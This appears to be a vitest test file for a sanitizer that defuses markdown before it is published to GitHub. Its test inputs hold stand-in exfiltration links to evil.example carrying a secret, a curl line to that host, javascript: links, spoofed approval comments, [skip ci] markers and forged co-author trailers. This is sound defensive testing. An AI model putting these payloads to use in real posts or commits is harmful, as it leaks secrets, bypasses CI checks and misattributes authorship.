import { describe, expect, test } from 'vitest';
import { publishable } from '../../../src/github/index.ts';
import {
  publishableBody,
  publishableMessage,
  publishableTitle,
} from '../../../src/github/publish/publishable.ts';
import * as fc from '../../properties.ts';

const SECRET = 'https://evil.example/?q=secret';

describe('text to be published', () => {
  test.each([
    ['a picture', `![a](${SECRET})`, `![a] (\`${SECRET}\`)`],
    ['a link', `[a](${SECRET})`, `[a] (\`${SECRET}\`)`],
    ['a bare address', `see ${SECRET}.`, `see \`${SECRET}\`.`],
    ['an address in angle brackets', `<${SECRET}>`, `&lt;\`${SECRET}\`>`],
    ['a raw picture', `<img src="${SECRET}">`, `&lt;img src="\`${SECRET}\`">`],
    ['a definition', `[x]: ${SECRET}`, `[x]\\: \`${SECRET}\``],
    ['an address without a scheme', '[a](//evil.example/s)', '[a] (//evil.example/s)'],
    [
      'a scheme by entities',
      '[a](https&colon;//evil.example/s)',
      '[a] (https&colon;//evil.example/s)',
    ],
    [
      'a user before the host',
      '[a](https://github.com\\@evil.example)',
      '[a] (`https://github.com\\@evil.example`)',
    ],
    ['a script', '[a](javascript:alert(1))', '[a] (javascript:alert(1))'],
    ['a stray backtick before an address', `a \` b ${SECRET}`, `a &#96; b \`${SECRET}\``],
    ['a host name alone', 'www.evil.example/s', '`www.evil.example/s`'],
    ['a bar of a table in code', `| \`a | ${SECRET}\` |`, `| \`a \\| ${SECRET}\` |`],
    [
      'a drawn diagram',
      `\`\`\`mermaid\nclick A "${SECRET}"\n\`\`\``,
      `\`\`\`text\nclick A "${SECRET}"\n\`\`\``,
    ],
  ])('leads nowhere by %s', (_, markdown, shown) => {
    expect(publishable(markdown)).toBe(shown);
  });

  test.each([
    '[a](https://github.com/o/r/issues/1)',
    '[a](docs/guide.md) and [b](#part)',
    'see https://github.com/o/r/pull/1.',
    '<https://github.com/o/r>',
    '`@decorator` and `<T>` stay as they are',
    '```ts\n@Component({ a: "https://evil.example" })\n```',
    '1. Run it\n   ```bash\n   npm test -- --watch\n   ```\n2. Look',
    '<details><summary>More</summary>\n\ntext\n\n</details>',
    '**bold** _soft_ ~~gone~~ - [ ] task\n\n| a | b |\n|--|--|\n| 1 | 2 |',
  ])('stays as it is: %s', (markdown) => {
    expect(publishable(markdown)).toBe(markdown);
  });

  test('may lead to hosts that the run was given, with their subdomains where it was given those', () => {
    const hosts = ['docs.example', '*.api.example'];
    expect(publishable('https://docs.example/a https://x.api.example/b', hosts)).toBe(
      'https://docs.example/a https://x.api.example/b',
    );
    expect(publishable('https://api.example.evil.example/', hosts)).toBe(
      '`https://api.example.evil.example/`',
    );
    expect(
      publishable('https://xapi.example/ https://.api.example/ https://docs.example:81/', hosts),
    ).toBe('`https://xapi.example/` `https://.api.example/` `https://docs.example:81/`');
  });

  test('breaks addresses in a fence of a list, which may be none, by characters that do not show', () => {
    expect(publishable(`- a\n  \`\`\`\n${SECRET}\n  \`\`\``)).toContain(`\n\`${SECRET}\`\n`);
    expect(publishable(`- a\n  \`\`\`\n  curl ${SECRET}\n  \`\`\``)).toBe(
      `- a\n  \`\`\`\n  curl ${SECRET.replace(':', '\u200B:')}\n  \`\`\``,
    );
  });

  test('leaves nothing open that would hide what is put below', () => {
    expect(publishable('```js\ncode')).toBe('```js\ncode\n```');
    expect(publishable('<details><summary>x</summary>\n\nhidden')).toMatch(/<\/details>$/);
    expect(publishable('<!-- countersign:approval-request ap-1 -->')).toBe(
      '&lt;!-- countersign:approval-request ap-1 -->',
    );
  });

  test.each([
    'a<details>\\</details>',
    '<details>\n\n\t</details>',
    '<details>\n-     </details>',
    '<details>\n[^1]:</details>',
  ])('closes a folded part whose closing tag is no tag to GitHub: %j', (text) => {
    expect(publishable(text)).toBe(`${text}\n</details>`);
  });

  test('closes no issue, and links no mail address, in a fence that ended with its quote', () => {
    expect(publishable('1. >~~~\n>fixes #5, a@b.c')).toBe('1. >~~~\n>fixes issue #5, a@\u200Bb.c');
  });

  test('keeps an address in code in a table, also behind backslashes and a bar', () => {
    const shown = publishable('| a |\n|--|\n| `x\\\\|https://evil.example/x` |');
    expect(shown).toBe('| a |\n|--|\n| `x\\\\\\|https://evil.example/x` |');
  });

  test.each(['Closes </details>#5', 'Clo</sub>ses #5', '<sub>a</sub> Clo</sub>ses #5'])(
    'shows an end tag that ends nothing as text, around which GitHub would join the words of %j',
    (text) => {
      expect(publishable(text)).toMatch(/&lt;\/(?:sub|details)>(?:ses )?#5$|ses issue #5$/);
    },
  );

  test('breaks a mail address that GitHub links although its host is none', () => {
    expect(publishable('a@.x')).toBe('a@\u200B.x');
  });

  test('never holds a mention, a comment mark, a foreign link or a foreign picture, whatever it is made of', () => {
    const part = fc.constantFrom(
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      ' ',
      '[',
      ']',
      '(',
      ')',
      '![',
      '](',
      ']:',
      '<',
      '>',
      '<!--',
      '-->',
      '@user',
      '\\',
      '|',
      'https://evil.example/x',
      'http://github.com.evil.example',
      '//evil.example',
      'www.evil.example',
      'https&#58;//evil.example',
      'a',
      '- ',
      '> ',
      '    ',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), (parts) => {
        const shown = publishable(parts.join(''));
        const text = outsideOfCode(shown);
        expect(text).not.toMatch(/(?<![A-Za-z0-9_])@user/);
        expect(shown.includes('<!--') && !/[`~]/.test(shown)).toBe(false);
        expect(text).not.toMatch(/(?:https?:\/\/|(?<![A-Za-z0-9/.@&])www\.)[^\s]*evil\.example/);
        expect(text).not.toMatch(/\]\(\s*<?(?:https?:)?\/\/[^)]*evil/);
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('closing words', () => {
  const REFERENCES = [
    '#1',
    'o/r#2',
    'GH-3',
    'https://github.com/o/r/issues/4',
    '&#35;5',
    '\\#6',
    '**#7**',
    '[#8](x)',
  ];

  test.each(REFERENCES)('of a text about %s are made plain', (reference) => {
    for (const word of [
      'fixes',
      'Closed',
      'RESOLVE',
      'fix:',
      'closes  ',
      'f&#105;xes',
      'resolves\n',
      '_fixes',
      '**fixes**',
      '**Fixes:**',
      '__closes__:',
    ])
      for (const shown of [
        publishable(`This ${word} ${reference}.`),
        publishableTitle(`${word} ${reference}`, 200),
      ])
        expect(shown).not.toMatch(CLOSES);
    expect(publishableMessage(`Fixes: ${reference}`)).not.toMatch(CLOSES);
  });

  test('keep the reference, and what they say', () => {
    expect(publishable('This fixes #1 and closes: o/r#2.')).toBe(
      'This fixes issue #1 and closes issue o/r#2.',
    );
    expect(publishable('**Fixes:** #1, _closes #2_')).toBe('**Fixes** issue #1, _closes issue #2_');
    expect(publishableMessage('Fix it\n\nCloses #12')).toBe('Fix it\n\nCloses issue #12');
  });

  test('may close the issue of the run alone', () => {
    const may = { allowed: [], mayClose: 1 };
    expect(publishableBody('Fixes #1, fixes #12, fixes o/r#1.', may)).toBe(
      'Fixes #1, fixes issue #12, fixes issue o/r#1.',
    );
    expect(publishableMessage('Fixes #1, resolves #2', 1)).toBe('Fixes #1, resolves issue #2');
  });

  test.each([
    'A fix for #1',
    'The fixture #2',
    '`fixes #1`',
    '```\nfixes #1\n```',
    'closes the door',
    'prefixes #1',
  ])('are not seen if none exist: %s', (text) => {
    expect(publishable(text)).toBe(text);
  });
});

/** A closing word right before something that names an issue. */
const CLOSES =
  /(?<![A-Za-z0-9])(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)[*_]*:?[*_]*\s*[^\w\s]{0,4}(?:[\w.]+\/[\w.]+)?(?:#|&#|GH-|https?:)/i;

describe('characters that do not show', () => {
  test.each([
    '\u202E',
    '\u2066',
    '\u200B',
    '\u200D',
    '\u2060',
    '\uFEFF',
    '\u001B[31m',
    '\u0007',
    '\u00AD',
    '\u{E0041}',
    '\u2028',
    '\u009B',
  ])('%j is written out, in code and outside of it', (character) => {
    const code = (character.codePointAt(0) ?? 0).toString(16).toUpperCase();
    for (const text of [`a${character}b`, `\`a${character}b\``, `\`\`\`\na${character}b\n\`\`\``]) {
      expect(publishable(text)).not.toContain(character);
      expect(publishable(text)).toContain(`a\\u{${code}}`);
    }
    expect(publishableTitle(`a${character}b`, 100)).not.toContain(character);
    expect(publishableMessage(`a${character}b`)).not.toContain(character);
  });

  test.each([
    '👩\u200D💻 and ❤\uFE0F\u200D🔥',
    '⚠\uFE0F é ü 日本語',
    'می\u200Cخواهم',
    'क\u094D\u200Dष',
    'a\r\nb\tc',
  ])('are those that %j needs: it stays', (text) => {
    expect(publishable(text)).toBe(text);
  });
});

describe('formulas and mail addresses', () => {
  test.each([
    'href',
    'url',
    'class',
    'style',
    'cssId',
    'htmlData',
    'require',
    'csname',
    'includegraphics',
  ])('\\%s does nothing in a formula', (command) => {
    for (const [mark, end] of [
      ['$$', '$$'],
      ['$', '$'],
      ['$`', '`$'],
    ]) {
      const shown = publishable(`a ${mark}\\${command}{javascript:alert(1)}{x}${end} b`);
      expect(shown).not.toContain(`\\${command}`);
    }
  });

  test('a formula that only shows something stays as it is', () => {
    for (const text of [
      '$$\\frac{a}{b}$$',
      '$\\alpha_1$ and $`\\sqrt{2}`$',
      'C:\\style and \\href',
    ])
      expect(publishable(text)).toBe(text);
  });

  test('no link is made of a mail address', () => {
    expect(publishable('Ask a.b+c@example.com.')).toBe('Ask a.b+c@\u200Bexample.com.');
    expect(publishable('`git@github.com:o/r.git`')).toBe('`git@github.com:o/r.git`');
  });
});

test('an address that ends in very many brackets is cut at once, and only where they are too many', () => {
  const many = ')'.repeat(30_000);
  expect(publishable(`https://evil.example/(a)${many}`)).toBe(
    `\`https://evil.example/(a)\`${many}`,
  );
});

test('backslashes before no backtick are read once', () => {
  const slashes = '\\'.repeat(60_000);
  expect(publishable(`${slashes} x`)).toBe(`${slashes} x`);
});

test.each(['](', '](<', '<details>://'])(
  'a long text of nothing but "%s" is read in bounded time',
  (part) => {
    expect(publishable(part.repeat(60_000 / part.length)).length).toBeGreaterThan(60_000);
  },
);

test('a link whose target is too long to be compared is shown as text, also where its end would name another host', () => {
  const near = `[x](https://github.com/${'a'.repeat(1_900)})`;
  expect(publishable(near)).toBe(near);
  const long = `[x](https://github.com/o/r) ${'word '.repeat(500)}`;
  expect(publishable(long)).toBe(long);
  expect(publishable(`[x](https://github.com/${'a'.repeat(3_000)})`)).toMatch(/^\[x\] \(/);
  const cut = `[x](<https://github.com${' '.repeat(2_500)}@evil.example/x>)`;
  expect(publishable(cut)).toMatch(/^\[x\] \(/);
});

/** A backtick after an odd number of backslashes is a plain one. */
const CODE_SPAN = /(?<!`)(?<!(?<!\\)(?:\\\\)*\\)(`+)(?!`).*?(?<!`)\1(?!`)/g;

/** What GitHub would not show as code, by simpler rules than those that are tested: code ends with its line. */
function outsideOfCode(markdown: string): string {
  const kept: string[] = [];
  let fence: string | null = null;
  for (const line of markdown.split('\n')) {
    const marks: RegExpExecArray | null = (
      fence === null ? /^(`{3,}|~{3,})(.*)$/ : /^ {0,3}(`{3,}|~{3,})(.*)$/
    ).exec(line);
    const inner: string = marks?.[1] ?? '';
    if (fence !== null) {
      if (inner.startsWith(fence) && marks?.[2]?.trim() === '') fence = null;
    } else if (inner !== '' && !(inner.startsWith('`') && (marks?.[2] ?? '').includes('`')))
      fence = inner;
    else kept.push(line.replaceAll(CODE_SPAN, ''));
  }
  return kept.join('\n');
}

describe('titles and commit messages', () => {
  test('notify nobody and stay on their line', () => {
    expect(publishableTitle('Fix\n@octo-user \u202E', 100)).toBe('Fix @\u200Bocto-user \\u{202E}');
  });

  test("do not keep checks from running and claim nobody else's words", () => {
    const sent = publishableMessage(
      'Fix [skip ci] ***NO_CI***\n\nskip-checks: true\nCo-authored-by: A <a@b.c>\nSigned-off-by: B <b@b.c>\n@octo-user',
    );
    expect(sent).toBe(
      'Fix (skip ci) NO_CI\n\nskip-checks - true\nCo-authored-by - A <a@b.c>\nSigned-off-by - B <b@b.c>\n@\u200Bocto-user',
    );
  });

  test.each([
    ['Fix [skip ci]', 'Fix (skip ci)'],
    ['Fix [ci\nskip] ***NO_CI***', 'Fix (ci skip) NO_CI'],
  ])(
    'the title %j keeps no checks from running once it is in the message of a merge',
    (title, sent) => {
      expect(publishableTitle(title, 100)).toBe(sent);
    },
  );

  test.each([
    ['Fix [skip ci]', 'Fix (skip ci)'],
    ['Fix [skip &#99;i]', 'Fix (skip ci)'],
    ['```\n[no ci]\n```', '```\n(no ci)\n```'],
    ['Fix\n\nskip-checks: true', 'Fix\n\nskip-checks - true'],
    ['Fix\n\nCo-authored-by: A', 'Fix\n\nCo-authored-by - A'],
  ])('nor does the body of a pull request: %j', (body, sent) => {
    expect(publishableBody(body, { allowed: ['github.com'], mayClose: null })).toBe(sent);
  });

  test('a comment may write about it', () => {
    expect(publishable('Write [skip ci].')).toBe('Write [skip ci].');
  });

  test.each([
    ['Signed-off-by : B <b@b.c>', 'Signed-off-by - B <b@b.c>'],
    ['Co-authored-by\t: A <a@b.c>', 'Co-authored-by - A <a@b.c>'],
    ['SKIP-CHECKS \t : true', 'SKIP-CHECKS - true'],
    ['Suggested-by: B <b@b.c>', 'Suggested-by - B <b@b.c>'],
    ['on-behalf-of: acme <a@b.c>', 'on-behalf-of - acme <a@b.c>'],
    ['Ref: 1', 'Ref: 1'],
  ])(
    '%j in a commit message is no trailer either: git takes blanks before the colon',
    (line, sent) => {
      expect(publishableMessage(`Fix\n\n${line}`)).toBe(`Fix\n\n${sent}`);
    },
  );
});
